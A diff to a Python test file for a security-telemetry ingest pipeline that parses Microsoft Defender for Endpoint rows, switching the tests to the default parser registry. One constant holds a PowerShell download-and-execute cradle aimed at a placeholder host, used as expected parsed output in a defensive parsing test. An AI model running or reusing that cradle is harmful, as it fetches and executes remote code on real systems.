@@ -18,12 +18,11 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from ingest import registry as registry_module
 from ingest.ipmap import IpHostMap, connection_ends
 from ingest.journal import Journal
 from ingest.normalize import parse_timestamp
-from ingest.parsers import elasticsearch, mde, windows
-from ingest.parsers.base import ParseContext, ParseError, ParserRegistry, UnknownFormatError
+from ingest.parsers import mde
+from ingest.parsers.base import ParseContext, ParseError
 from ingest.parsers.mde import REMAINDER_LIMIT, MdeParser, table_of
 from ingest.pipeline import ingest_records
 from ingest.readers.base import RawRecord
@@ -34,7 +33,7 @@ from ingest.readers.files import (
     open_binary,
     skip_reason,
 )
-from ingest.registry import DEFAULT_MODULES, default_registry
+from ingest.registry import default_registry
 from tests.ingest.fuzz_seeds import seed_objects
 
 FIXTURES = Path(__file__).parent / "fixtures" / "mde"
@@ -42,27 +41,6 @@ ROWS: dict[str, dict[str, Any]] = json.loads((FIXTURES / "advanced_hunting.json"
 PARSER = MdeParser()
 CONTEXT = ParseContext(origin="test")
 SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://cdn-img-delivery.example/a.png')"
-
-
-def mde_registry() -> ParserRegistry:
-    """The default registry with the MDE parser after the Windows parsers, where ``registry.py`` is to put it.
-
-    Built as :func:`ingest.registry.default_registry` builds its own (the
-    Elasticsearch wrapper reads its documents with this registry), from
-    :data:`DEFAULT_MODULES`, so it follows that list, and stays right once
-    ``mde`` is in it.
-    """
-    modules = list(DEFAULT_MODULES)
-    if mde not in modules:
-        modules.insert(modules.index(windows) + 1, mde)
-    registry = ParserRegistry()
-    for wrapper in getattr(registry_module, "WRAPPER_MODULES", (elasticsearch,)):  # Splunk's wrapper is coming
-        for parser in wrapper.parsers(registry):
-            registry.register(parser)
-    for module in modules:
-        for parser in module.parsers():
-            registry.register(parser)
-    return registry
 
 
 def parse(record: dict[str, Any]) -> list[Any]:
@@ -387,20 +365,20 @@ def test_the_sniff_does_not_claim_other_formats(record):
     assert not PARSER.sniff(record)
 
 
-def test_today_the_default_registry_rejects_mde_rows_and_with_the_parser_none_is_claimed_before_it():
-    records = [*ROWS.values(), *ndjson("streaming.ndjson"), *ndjson("sentinel.ndjson"),
-               json.loads((FIXTURES / "eventhub_message.json").read_text(encoding="utf-8"))]
-    registry = mde_registry()
+def _mde_fixtures() -> list[Any]:
+    return [*ROWS.values(), *ndjson("streaming.ndjson"), *ndjson("sentinel.ndjson"),
+            json.loads((FIXTURES / "eventhub_message.json").read_text(encoding="utf-8"))]
+
+
+def test_the_default_registry_detects_every_mde_fixture_as_mde():
+    registry = default_registry()
     assert registry.names.index("mde") < registry.names.index("ecs")
-    assert {registry.detect(record).name for record in records} == {"mde"}
-    if "mde" not in default_registry().names:  # until registry.py registers it
-        for record in records:
-            with pytest.raises(UnknownFormatError):
-                default_registry().detect(record)
+    assert {registry.detect(record).name for record in _mde_fixtures()} == {"mde"}
 
 
 def test_no_fixture_of_another_format_is_claimed():
-    seeds = seed_objects()
+    mde_rows = _mde_fixtures()
+    seeds = [record for record in seed_objects() if record not in mde_rows]  # the fuzz seeds hold MDE's too
     assert len(seeds) > 50
     assert [record for record in seeds if PARSER.sniff(record)] == []
 
@@ -484,7 +462,7 @@ def fuzz_journal(tmp_path_factory):
 @given(records=st.lists(mutated_rows(), min_size=1, max_size=8))
 def test_mutated_rows_through_the_pipeline_are_accepted_or_rejected_with_a_reason(fuzz_journal, records):
     before = fuzz_journal.counts()["rejected"]
-    report = ingest_records(records, store=None, journal=fuzz_journal, registry=mde_registry())
+    report = ingest_records(records, store=None, journal=fuzz_journal, registry=default_registry())
     total = report.total
     assert total.received == len(records) == total.accepted + total.rejected
     for rejection in fuzz_journal.rejected(limit=100_000, offset=before):
@@ -504,7 +482,7 @@ def test_the_direct_read_of_mdes_time_is_the_general_readers(moment, tick):
 def test_an_elasticsearch_hit_of_an_mde_row_is_read_by_this_parser(tmp_path):
     hit = {"_index": "mde-2024.03.05", "_id": "10432", "_source": ROWS["process_created"]}
     with Journal(tmp_path / "journal.sqlite") as journal:
-        report = ingest_records([hit], store=None, journal=journal, registry=mde_registry())
+        report = ingest_records([hit], store=None, journal=journal, registry=default_registry())
         (row,) = journal.iter_events()
     assert report.total.accepted == 1 and row.event.kind == "sysmon:process_create"
     assert row.event.fields["process.command_line_decoded"] == SCRIPT
